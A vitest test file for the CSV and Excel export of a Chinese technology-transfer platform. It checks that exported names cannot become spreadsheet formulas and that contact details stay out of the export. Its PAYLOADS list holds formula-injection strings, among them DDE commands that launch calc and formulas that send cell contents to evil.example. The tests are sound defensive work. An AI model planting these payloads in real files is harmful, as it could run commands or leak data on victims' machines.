import { type Achievement, AchievementDraft } from '@keqiao/shared/achievements'
import { type Need, NeedDraft } from '@keqiao/shared/needs'
import { parse } from 'csv-parse/sync'
import { readSheet } from 'read-excel-file/node'
import { expect, test } from 'vitest'
import { unpack } from '../platform/bound.ts'
import { loadTaxonomies } from '../taxonomy/taxonomy.ts'
import { exportRows, toCsv, toXlsx } from './export.ts'
import { scratch } from './fixtures.ts'

const taxonomies = loadTaxonomies()
const head = {
  id: '01900000-0000-7000-8000-000000000001',
  state: 'published' as const,
  revision: 1,
  demo: false,
  createdAt: '2026-11-01T00:00:00.000Z',
  updatedAt: '2026-11-02T00:00:00.000Z',
  publishedAt: '2026-11-01T08:00:00.000Z',
  mine: false,
  contact: { person: '王老师', phone: '13800000000', email: 'wang@secret.example' },
  quality: null,
  externalRef: 'OWN-NUMBER-1',
  takenDown: null,
}
const owner = { id: head.id, name: '燕山大学', kind: 'UNIV' as const, region: '130300', demo: false }

function achievement(given: object): Achievement {
  return { ...AchievementDraft.parse({ name: '甲', ...given }), ...head, owner } as Achievement
}

/** Commands a spreadsheet would obey, as they are tried in practice. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"点这里")',
  '+1+1',
  "+cmd|' /C notepad'!A1",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '　=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1,1)',
  '"=1+1',
  "'=1+1",
  '\u0000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '=1+1","=2+2',
  '=1+1\n=2+2',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '%0A-3+3+cmd',
  '=DDE("cmd";"/C calc";"1")',
  '=@SUM(1)',
  '==1',
  '=-1',
]

const named = (names: string[]) =>
  exportRows(
    'achievement',
    names.map((name) => ({ ...achievement({}), name })),
    taxonomies,
  )

test.each(PAYLOADS)('the name %j is a text in a CSV', (name) => {
  const rows = named([name])
  const at = rows[0]?.indexOf('成果名称') ?? -1
  const [, line] = parse(toCsv(rows).toString('utf8').slice(1)) as string[][]
  expect(line?.[at]).not.toMatch(/^[\s"\u200b\ufeff\0]*[=+\-@＝＋－＠]|^[\t\r]/)
  expect(line?.[at]?.endsWith(name)).toBe(true)
  expect(line).toHaveLength(rows[0]?.length ?? 0)
})

test('all of them are texts in an Excel sheet, and no cell is a formula', async () => {
  const rows = named(PAYLOADS)
  const at = rows[0]?.indexOf('成果名称') ?? -1
  using files = scratch()
  const content = await toXlsx(rows, '成果')
  const parts = await unpack(files.put('a.xlsx', content), () => true)
  for (const part of parts.values()) expect(part.toString('utf8')).not.toMatch(/<f[\s>]/)
  const [, ...read] = await readSheet(content, 1, { trim: false })
  expect(read.map((cells) => typeof cells[at])).toEqual(PAYLOADS.map(() => 'string'))
})

test('codes are told by name, amounts in 万元, lists and lines as the import reads them', () => {
  const record = achievement({
    field: '0101',
    trl: 6,
    modes: ['LIC_NON', 'CODEV'],
    priceShow: 'RANGE',
    priceMin: 80_500_000,
    keywords: ['a', 'b'],
    indicators: [{ name: '强度', op: 'range', value: 1, valueMax: 2, unit: 'MPa' }],
    ips: [{ kind: 'PAT_INV', number: null, name: null, status: 'GRANTED' }],
    finishedOn: '2026-05',
  })
  const [headings = [], row = []] = exportRows('achievement', [record], taxonomies)
  const shown = Object.fromEntries(headings.map((heading, i) => [heading, row[i]]).filter(([, value]) => value !== null))
  expect(shown).toEqual({
    平台编号: head.id,
    成果名称: '甲',
    关键词: 'a；b',
    技术领域: '钢铁',
    主要技术指标: '强度 1~2 MPa',
    技术就绪度: 6,
    成果类别: '应用技术',
    知识产权: '发明专利 |  |  | 已授权',
    合作方式: '普通许可；合作开发',
    价格方式: '价格区间',
    '最低价（万元）': 80.5,
    完成年月: '2026-05',
    所属单位: '燕山大学',
    状态: taxonomies.label('listing_state', 'published', 'zh'),
    发布日期: '2026-11-01',
    更新日期: '2026-11-02',
  })
})

test('contact, the owner’s own number and what only members read are never exported', () => {
  const need = { ...NeedDraft.parse({ name: '乙', tried: '试过别家' }), ...head, owner: null } as Need
  const csv = [
    toCsv(exportRows('achievement', [achievement({})], taxonomies)),
    toCsv(exportRows('need', [need], taxonomies)),
  ].join('')
  for (const secret of ['王老师', '13800000000', 'wang@secret.example', 'OWN-NUMBER-1', '试过别家'])
    expect(csv).not.toContain(secret)
})

test('a CSV begins with the mark that Excel needs', () => {
  expect([...toCsv([['甲']]).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
})
